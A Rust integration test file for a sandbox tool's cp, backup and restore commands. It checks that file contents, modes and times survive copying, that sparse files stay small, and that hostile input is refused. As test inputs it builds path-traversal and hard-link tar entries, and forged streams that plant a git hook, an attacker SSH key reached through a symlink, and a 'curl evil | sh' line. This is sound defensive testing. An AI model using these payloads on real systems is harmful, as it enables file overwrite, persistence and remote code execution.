//! What goes in and out of a sandbox on `cp`, `backup` and `restore`: bytes,
//! modes and times kept, tar streams both ways, and against a hostile sandbox:
//! a planted symlink is never
//! followed, a hostile record stream writes nothing outside what was asked
//! for, sparse files stay sparse and small in memory, caps hold, and restore
//! refuses input that is not a whole tar before anything changes.

use std::os::unix::fs::MetadataExt;

use crate::support::*;

#[test]
fn cp_both_ways_on_a_read_only_sandbox_keeps_bytes_and_modes() {
    use std::os::unix::fs::PermissionsExt;
    let w = World::new();
    let sb = w.create(&[]);
    let src = w.socket_root.join("src");
    std::fs::create_dir_all(src.join("tree/sub")).unwrap();
    let data = blob(2 << 20);
    std::fs::write(src.join("tree/sub/data.bin"), &data).unwrap();
    std::fs::set_permissions(src.join("tree/sub/data.bin"), std::fs::Permissions::from_mode(0o640)).unwrap();
    std::fs::write(src.join("tree/run.sh"), b"#!/bin/sh\n").unwrap();
    std::fs::set_permissions(src.join("tree/run.sh"), std::fs::Permissions::from_mode(0o755)).unwrap();

    for dest in ["/tmp", "/state"] {
        assert_success(&w.sbx(&["cp", src.join("tree").to_str().unwrap(), &format!("{}:{dest}", sb.id)]), "cp in");
        assert!(sb.exec(&["read", &format!("{dest}/tree/sub/data.bin")]).stdout == data, "bytes in {dest}");
        let back = w.socket_root.join(format!("back{}", dest.replace('/', "-")));
        assert_success(&w.sbx(&["cp", &format!("{}:{dest}/tree", sb.id), back.to_str().unwrap()]), "cp out");
        assert!(std::fs::read(back.join("sub/data.bin")).unwrap() == data);
        let mode = |p: &std::path::Path| std::fs::metadata(p).unwrap().permissions().mode() & 0o777;
        assert_eq!(mode(&back.join("sub/data.bin")), 0o640);
        assert_eq!(mode(&back.join("run.sh")), 0o755);
        std::fs::remove_dir_all(&back).unwrap();
    }
    // A single file to a new name.
    assert_success(
        &w.sbx(&["cp", src.join("tree/run.sh").to_str().unwrap(), &format!("{}:/tmp/renamed.sh", sb.id)]),
        "cp file",
    );
    assert_eq!(sb.exec(&["read", "/tmp/renamed.sh"]).stdout, b"#!/bin/sh\n");
    assert_exit(&w.sbx(&["cp", "/nonexistent-sbx", &format!("{}:/tmp", sb.id)]), 1, "missing source");
    assert_exit(&w.sbx(&["cp", "a", "b"]), 2, "no sandbox side");
    assert_exit(&w.sbx(&["cp", "a", &format!("{}:relative", sb.id)]), 2, "relative sandbox path");
    std::fs::remove_dir_all(&src).unwrap();
}

#[test]
fn a_symlink_planted_in_the_sandbox_is_never_followed() {
    let w = World::new();
    let sb = w.create(&[]);
    let host_secret = w.socket_root.join("secret");
    std::fs::write(&host_secret, b"host only").unwrap();
    // Out: links come back as links, never as the host files they name.
    sb.exec(&["mkdir", "/tmp/box"]);
    assert_success(&sb.exec(&["ln", host_secret.to_str().unwrap(), "/tmp/box/secret"]), "plant a link to a host path");
    assert_success(&sb.exec(&["ln", "/", "/tmp/box/root"]), "plant a link to /");
    let out_dir = w.socket_root.join("out");
    assert_success(&w.sbx(&["cp", &format!("{}:/tmp/box", sb.id), out_dir.to_str().unwrap()]), "cp out");
    assert_eq!(std::fs::read_link(out_dir.join("secret")).unwrap(), host_secret, "a link, not the host file's content");
    assert!(std::fs::symlink_metadata(out_dir.join("root")).unwrap().file_type().is_symlink());
    // In: a destination reached through a planted link is refused.
    assert_success(&sb.exec(&["ln", "/state", "/tmp/to-state"]), "plant a link inside the sandbox");
    let f = w.socket_root.join("f");
    std::fs::write(&f, b"x").unwrap();
    let out = w.sbx(&["cp", f.to_str().unwrap(), &format!("{}:/tmp/to-state/f", sb.id)]);
    assert_exit(&out, 1, "cp through a planted link");
    assert!(stderr(&out).contains("symlink"), "{}", stderr(&out));
    assert_exit(&sb.exec(&["exists", "/state/f"]), 1, "nothing written through the link");
    assert_eq!(std::fs::read(&host_secret).unwrap(), b"host only");
}

#[test]
fn backup_then_restore_into_a_fresh_sandbox_gives_the_same_tree() {
    let w = World::new();
    let a = w.create(&[]);
    let src = w.socket_root.join("ws");
    std::fs::create_dir_all(src.join("workspace/deep/er")).unwrap();
    std::fs::write(src.join("workspace/deep/er/file.bin"), blob(100_000)).unwrap();
    std::fs::write(src.join("workspace/top.txt"), b"top").unwrap();
    std::os::unix::fs::symlink("top.txt", src.join("workspace/link")).unwrap();
    assert_success(
        &w.sbx(&["cp", src.join("workspace").to_str().unwrap(), &format!("{}:/state", a.id)]),
        "seed the workspace",
    );
    let tar = w.sbx(&["backup", &a.id]);
    assert_success(&tar, "backup");
    assert!(tar.stdout.len() > 100_000);

    let b = w.create(&[]);
    // restore replaces: something already there disappears.
    w.sbx_stdin(&["exec", &b.id, "--", "/bin/fixture", "mkdir", "/state/workspace/old"], b"");
    assert_success(&w.sbx_stdin(&["restore", &b.id], &tar.stdout), "restore");
    assert_exit(&b.exec(&["exists", "/state/workspace/old"]), 1, "restore replaced, not merged");
    let again = w.sbx(&["backup", &b.id]);
    assert!(again.stdout == tar.stdout, "the restored tree differs");
    let back = w.socket_root.join("back");
    assert_success(&w.sbx(&["cp", &format!("{}:/state/workspace", b.id), back.to_str().unwrap()]), "cp out");
    assert_eq!(std::fs::read(back.join("deep/er/file.bin")).unwrap(), blob(100_000));
    assert_eq!(std::fs::read_link(back.join("link")).unwrap(), std::path::PathBuf::from("top.txt"));

    // An archive with an entry that escapes is refused before anything changes.
    let mut evil = tar::Builder::new(Vec::new());
    let mut h = tar::Header::new_gnu();
    h.set_size(1);
    h.set_mode(0o644);
    h.as_old_mut().name[..9].copy_from_slice(b"../escape");
    h.set_cksum();
    evil.append(&h, &b"x"[..]).unwrap();
    let out = w.sbx_stdin(&["restore", &b.id], &evil.into_inner().unwrap());
    assert_exit(&out, 2, "an escaping archive");
    assert!(stderr(&out).contains("escape"), "{}", stderr(&out));
    assert_success(&b.exec(&["exists", "/state/workspace/top.txt"]), "the workspace is untouched");
}

/// Backup tars had mtime 0 and uid 0 on every entry. The
/// files' times and modes go through cp in, backup, restore and cp out;
/// owners are 0 on purpose (see the README).
#[test]
fn backup_keeps_times_and_modes() {
    use std::os::unix::fs::{MetadataExt, PermissionsExt};
    let w = World::new();
    let a = w.create(&[]);
    let src = w.socket_root.join("times/workspace");
    std::fs::create_dir_all(src.join("sub")).unwrap();
    let old = std::time::UNIX_EPOCH + std::time::Duration::from_secs(1_600_000_000);
    for (f, mode) in [("a.txt", 0o640), ("sub/run.sh", 0o750)] {
        std::fs::write(src.join(f), b"data").unwrap();
        std::fs::set_permissions(src.join(f), std::fs::Permissions::from_mode(mode)).unwrap();
        std::fs::File::options().write(true).open(src.join(f)).unwrap().set_modified(old).unwrap();
    }
    assert_success(&w.sbx(&["cp", src.to_str().unwrap(), &format!("{}:/state", a.id)]), "seed");
    let tar = w.sbx(&["backup", &a.id]);
    assert_success(&tar, "backup");
    let entries = |data: &[u8]| -> Vec<(String, u32, u64, u64)> {
        tar::Archive::new(data)
            .entries()
            .unwrap()
            .map(|e| {
                let h = e.unwrap().header().clone();
                (
                    h.path().unwrap().display().to_string(),
                    h.mode().unwrap() & 0o7777,
                    h.mtime().unwrap(),
                    h.uid().unwrap(),
                )
            })
            .collect()
    };
    let got = entries(&tar.stdout);
    let file = |n: &str| got.iter().find(|e| e.0 == n).cloned().unwrap_or_else(|| panic!("{n} in {got:?}"));
    assert_eq!(file("a.txt"), ("a.txt".into(), 0o640, 1_600_000_000, 0));
    assert_eq!(file("sub/run.sh"), ("sub/run.sh".into(), 0o750, 1_600_000_000, 0));
    assert!(got.iter().all(|e| e.2 > 0), "no entry has mtime 0: {got:?}");
    // Restored and copied out, the times are still there.
    let b = w.create(&[]);
    assert_success(&w.sbx_stdin(&["restore", &b.id], &tar.stdout), "restore");
    assert_eq!(entries(&w.sbx(&["backup", &b.id]).stdout), got, "restore kept times and modes");
    let back = w.socket_root.join("times-back");
    assert_success(&w.sbx(&["cp", &format!("{}:/state/workspace", b.id), back.to_str().unwrap()]), "cp out");
    let md = std::fs::metadata(back.join("sub/run.sh")).unwrap();
    assert_eq!((md.mtime(), md.mode() & 0o7777), (1_600_000_000, 0o750));
}

/// `sbx cp ID:/path -` failed with "writing -: is outside.
/// ". `-` is a tar stream, as with `docker cp`: out on stdout (entries
/// named from the source's own name), in from stdin (checked whole before
/// anything changes, extracted into the existing directory).
#[test]
fn cp_dash_streams_tar_both_ways() {
    let w = World::new();
    let sb = w.create(&[]);
    let src = w.socket_root.join("tarsrc/dir");
    std::fs::create_dir_all(src.join("sub")).unwrap();
    std::fs::write(src.join("sub/f.bin"), blob(70_000)).unwrap();
    std::os::unix::fs::symlink("sub/f.bin", src.join("link")).unwrap();
    assert_success(&w.sbx(&["cp", src.to_str().unwrap(), &format!("{}:/tmp", sb.id)]), "seed");
    let out = w.sbx(&["cp", &format!("{}:/tmp/dir", sb.id), "-"]);
    assert_success(&out, "cp ID:/tmp/dir -");
    let mut names = Vec::new();
    let mut data = Vec::new();
    for e in tar::Archive::new(out.stdout.as_slice()).entries().unwrap() {
        let mut e = e.unwrap();
        let n = e.path().unwrap().display().to_string();
        if n == "dir/sub/f.bin" {
            std::io::Read::read_to_end(&mut e, &mut data).unwrap();
        }
        names.push(n);
    }
    assert_eq!(names, ["dir", "dir/link", "dir/sub", "dir/sub/f.bin"]);
    assert!(data == blob(70_000), "the file's bytes");

    // ... and back in, into another existing directory.
    w.sbx_stdin(&["exec", &sb.id, "--", "/bin/fixture", "mkdir", "/tmp/in"], b"");
    assert_success(&w.sbx_stdin(&["cp", "-", &format!("{}:/tmp/in", sb.id)], &out.stdout), "cp - ID:/tmp/in");
    assert_success(&sb.exec(&["exists", "/tmp/in/dir/sub/f.bin"]), "extracted under /tmp/in");
    let again = w.sbx(&["cp", &format!("{}:/tmp/in/dir/sub/f.bin", sb.id), "-"]);
    let mut e = tar::Archive::new(again.stdout.as_slice());
    let mut got = Vec::new();
    std::io::Read::read_to_end(&mut e.entries().unwrap().next().unwrap().unwrap(), &mut got).unwrap();
    assert!(got == blob(70_000), "round trip");

    // Refused before anything changes: escaping names, hard links, not a tar, not a directory.
    let mut evil = tar::Builder::new(Vec::new());
    let mut h = tar::Header::new_gnu();
    h.set_size(1);
    h.set_mode(0o644);
    h.as_old_mut().name[..9].copy_from_slice(b"../escape");
    h.set_cksum();
    evil.append(&h, &b"x"[..]).unwrap();
    let out = w.sbx_stdin(&["cp", "-", &format!("{}:/tmp/in", sb.id)], &evil.into_inner().unwrap());
    assert_exit(&out, 2, "an escaping archive");
    assert!(stderr(&out).contains("escape"), "{}", stderr(&out));
    let mut hard = tar::Builder::new(Vec::new());
    let mut h = tar::Header::new_gnu();
    h.set_entry_type(tar::EntryType::Link);
    h.set_size(0);
    h.set_mode(0o644);
    hard.append_link(&mut h, "h", "/etc/passwd").unwrap();
    let out = w.sbx_stdin(&["cp", "-", &format!("{}:/tmp/in", sb.id)], &hard.into_inner().unwrap());
    assert_exit(&out, 2, "a hard link");
    assert_exit(&sb.exec(&["exists", "/tmp/in/h"]), 1, "nothing written");
    assert_exit(&w.sbx_stdin(&["cp", "-", &format!("{}:/tmp/in", sb.id)], b"not a tar"), 1, "not a tar");
    let out = w.sbx_stdin(&["cp", "-", &format!("{}:/tmp/nowhere", sb.id)], &again.stdout);
    assert_exit(&out, 1, "into a missing directory");
    assert!(stderr(&out).contains("not a directory"), "{}", stderr(&out));
}

/// A record stream as a replaced helper could send it.
fn stream(records: &[(u8, u32, &str, &[u8])]) -> Vec<u8> {
    let mut v = b"SBXREC\x00\x04".to_vec();
    for (kind, mode, path, data) in records {
        v.push(*kind);
        v.extend_from_slice(&mode.to_be_bytes());
        v.extend_from_slice(&0i64.to_be_bytes());
        v.extend_from_slice(&(path.len() as u16).to_be_bytes());
        v.extend_from_slice(path.as_bytes());
        v.extend_from_slice(&(data.len() as u64).to_be_bytes());
        if *kind == b'F' {
            v.extend_from_slice(&0u64.to_be_bytes());
            v.extend_from_slice(&(data.len() as u64).to_be_bytes());
            v.extend_from_slice(data);
            v.extend_from_slice(&[0u8; 16]);
        } else {
            v.extend_from_slice(data);
        }
    }
    v.push(b'E');
    v.extend_from_slice(&[0u8; 22]);
    v
}

/// A docker stand-in (for SBX_DOCKER) whose helper `send` answers with
/// `forged`; every other call goes to the real docker.
fn forging_docker(w: &World, name: &str, forged: Vec<u8>) -> std::path::PathBuf {
    let evil = w.socket_root.join(format!("{name}.stream"));
    std::fs::write(&evil, forged).unwrap();
    let fake = w.socket_root.join(format!("docker-{name}"));
    std::fs::write(
        &fake,
        format!(
            "#!/bin/sh\nfor a in \"$@\"; do [ \"$a\" = send ] && exec cat '{}'; done\nexec docker \"$@\"\n",
            evil.display()
        ),
    )
    .unwrap();
    std::fs::set_permissions(&fake, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
    fake
}

/// End to end through the real binary: the helper's
/// answer to `cp ID:/tmp/report.txt .` in a git checkout also names a
/// sibling and `.git/hooks/pre-commit`. The answer is played by a docker
/// stand-in (SBX_DOCKER) so the stream is exactly the hostile one.
#[test]
fn a_stream_naming_a_sibling_and_a_git_hook_writes_neither() {
    let w = World::new();
    let checkout = w.socket_root.join("checkout");
    std::fs::create_dir_all(checkout.join(".git/hooks")).unwrap();
    let fake = forging_docker(
        &w,
        "sibling",
        stream(&[
            (b'F', 0o644, "report.txt", b"the report\n"),
            (b'F', 0o644, "sibling.txt", b"planted\n"),
            (b'F', 0o755, ".git/hooks/pre-commit", b"#!/bin/sh\necho pwned\n"),
        ]),
    );
    // A real sandbox of this host: every command proves ownership first.
    let sb = w.create(&[]);
    let out = w.sbx_env(
        &["cp", &format!("{}:/tmp/report.txt", sb.id), checkout.to_str().unwrap()],
        &[("SBX_DOCKER", fake.to_str().unwrap())],
    );
    assert_exit(&out, 1, "a stream with entries beyond what was asked for");
    assert!(stderr(&out).contains("refusing entry \"sibling.txt\""), "{}", stderr(&out));
    assert!(!checkout.join("sibling.txt").exists(), "the sibling was written");
    assert!(!checkout.join(".git/hooks/pre-commit").exists(), "the git hook was written");
}

/// A helper whose stdout its sandbox can write (gVisor lets a process open
/// /proc/PID/fd/1) can send `x -> /root/.ssh` and then `x/authorized_keys`:
/// backup made a tar of both, exit 0, which Python's `tarfile` without a
/// filter extracts through the link. The forged stream is played by a
/// docker stand-in; sbx refuses the entry below the link, and a path sent
/// twice, and the tar it wrote holds neither.
#[test]
fn a_forged_stream_with_an_entry_below_its_link_or_twice_makes_no_backup() {
    let w = World::new();
    let sb = w.create(&[]);
    for (name, forged, want) in [
        (
            "below",
            stream(&[
                (b'D', 0o755, "workspace", b""),
                (b'L', 0o777, "workspace/x", b"/root/.ssh"),
                (b'F', 0o600, "workspace/x/authorized_keys", b"ssh-ed25519 AAAA attacker\n"),
            ]),
            "refusing entry \"workspace/x/authorized_keys\": it is below \"workspace/x\"",
        ),
        (
            "twice",
            stream(&[
                (b'D', 0o755, "workspace", b""),
                (b'F', 0o644, "workspace/run.sh", b"echo fine\n"),
                (b'F', 0o755, "workspace/run.sh", b"curl evil | sh\n"),
            ]),
            "refusing entry \"workspace/run.sh\": the stream sent it twice",
        ),
    ] {
        let fake = forging_docker(&w, name, forged);
        let out = w.sbx_env(&["backup", &sb.id], &[("SBX_DOCKER", fake.to_str().unwrap())]);
        assert_exit(&out, 1, name);
        assert!(stderr(&out).contains(want), "{name}: {}", stderr(&out));
        let mut names = Vec::new();
        for e in tar::Archive::new(out.stdout.as_slice()).entries().unwrap() {
            match e {
                Ok(e) => names.push(e.path().unwrap().display().to_string()),
                Err(_) => break, // cut where sbx refused
            }
        }
        assert!(!names.iter().any(|n| n.contains("authorized_keys")), "{name}: {names:?}");
        assert!(names.iter().filter(|n| n.contains("run.sh")).count() <= 1, "{name}: {names:?}");
    }
}

/// Three sparse 1 GiB files cost ~0 bytes in the
/// sandbox; sbx once held them in memory (6.3 GB RSS) and wrote 3.1 GB.
#[test]
fn sparse_files_come_out_sparse_within_the_cap_and_in_little_memory() {
    let w = World::new();
    let sb = w.create(&[]);
    assert_success(&sb.exec(&["mkdir", "/tmp/big"]), "mkdir");
    for i in 0..3 {
        assert_success(&sb.exec(&["sparse", &format!("/tmp/big/f{i}"), "1024"]), "make a sparse file");
    }
    let dst = w.socket_root.join("out");
    std::fs::create_dir_all(&dst).unwrap();
    let src = format!("{}:/tmp/big", sb.id);
    // Over the default cap of 1 GiB: refused, and it says how to raise it.
    let out = w.sbx(&["cp", &src, dst.to_str().unwrap()]);
    assert_exit(&out, 1, "3 GiB over the default cap");
    assert!(stderr(&out).contains("--max-bytes") && stderr(&out).contains("incomplete"), "{}", stderr(&out));
    std::fs::remove_dir_all(dst.join("big")).unwrap();

    let (out, rss_kib) = sbx_rss(&w, &["cp", "--max-bytes", "4GiB", &src, dst.to_str().unwrap()]);
    assert_success(&out, "cp with the cap raised");
    let mut blocks = 0;
    for i in 0..3 {
        let md = std::fs::metadata(dst.join(format!("big/f{i}"))).unwrap();
        assert_eq!(md.len(), 1 << 30);
        blocks += md.blocks();
        let mut mid = [0u8; 6];
        std::os::unix::fs::FileExt::read_exact_at(
            &std::fs::File::open(dst.join(format!("big/f{i}"))).unwrap(),
            &mut mid,
            512 << 20,
        )
        .unwrap();
        assert_eq!(&mid, b"middle");
    }
    assert!(blocks * 512 < 16 << 20, "host disk used: {} bytes", blocks * 512);
    // A correctness bound, not a timing one: nothing is held whole (3 GiB
    // held once took 6.3 GB). wait4's ru_maxrss is the largest of sbx and
    // the children it reaped, the docker CLI among them: 141 MiB once under
    // the full suite's load, so the bound leaves room for that.
    assert!(rss_kib < 256 * 1024, "sbx or its docker child peaked at {rss_kib} KiB");
    assert_exit(&w.sbx(&["cp", "--max-bytes", "lots", &src, dst.to_str().unwrap()]), 2, "a bad --max-bytes");

    // backup is capped the same way.
    assert_success(&sb.exec(&["mkdir", "/state/workspace"]), "mkdir");
    assert_success(&sb.exec(&["sparse", "/state/workspace/big", "2048"]), "a sparse file in the workspace");
    let out = w.sbx(&["backup", &sb.id]);
    assert_exit(&out, 1, "backup over the cap");
    assert!(stderr(&out).contains("--max-bytes"), "{}", stderr(&out));
}

/// The bounds above measure sbx, not this harness: late in a full run the
/// harness held 350 MiB, and wait4 of a child it spawned said sbx had.
#[test]
fn a_peak_rss_is_sbx_s_own_whatever_the_harness_holds() {
    let w = World::new();
    let held: Vec<u8> = (0..300u32 << 20).map(|i| i as u8).collect();
    let (out, rss_kib) = sbx_rss(&w, &["--version"]);
    assert_success(&out, "sbx --version");
    assert!(rss_kib < 64 * 1024, "sbx --version peaked at {rss_kib} KiB beside {} MiB held", held.len() >> 20);
}

fn workspace_has(sb: &Sandbox, path: &str) -> bool {
    sb.exec(&["exists", &format!("/state/workspace/{path}")]).status.success()
}

/// `sbx restore ID < /dev/null` exited 0 and emptied the workspace.
#[test]
fn restore_refuses_empty_truncated_and_non_tar_input_and_takes_an_empty_archive() {
    let w = World::new();
    let a = w.create(&[]);
    assert_success(&a.exec(&["mkdir", "/state/workspace"]), "mkdir");
    let empty_tar = w.sbx(&["backup", &a.id]);
    assert_success(&empty_tar, "backup of an empty workspace");
    assert_success(&a.exec(&["write", "/state/workspace/kept"]), "a file to keep");
    let full_tar = w.sbx(&["backup", &a.id]);
    assert_success(&full_tar, "backup");

    let out = w.sbx(&["restore", &a.id]); // stdin is /dev/null
    assert_exit(&out, 1, "restore < /dev/null");
    assert!(stderr(&out).contains("stdin is not a tar archive (0 bytes)"), "{}", stderr(&out));
    assert!(workspace_has(&a, "kept"), "the workspace changed");

    let cut = &full_tar.stdout[..full_tar.stdout.len() - 1024];
    let out = w.sbx_stdin(&["restore", &a.id], cut);
    assert_exit(&out, 1, "a truncated archive");
    assert!(stderr(&out).contains("truncated"), "{}", stderr(&out));
    let out = w.sbx_stdin(&["restore", &a.id], b"just some text, not an archive\n");
    assert_exit(&out, 1, "not an archive");
    assert!(stderr(&out).contains("not a whole tar archive"), "{}", stderr(&out));
    assert!(workspace_has(&a, "kept"), "the workspace changed");

    // What backup writes for an empty workspace restores to an empty workspace.
    assert_success(&w.sbx_stdin(&["restore", &a.id], &empty_tar.stdout), "restore of an empty archive");
    assert!(!workspace_has(&a, "kept"), "restore replaces");
    assert!(workspace_has(&a, ""), "the workspace itself is there");
    assert_success(&w.sbx_stdin(&["restore", &a.id], &full_tar.stdout), "restore");
    assert!(workspace_has(&a, "kept"));
}
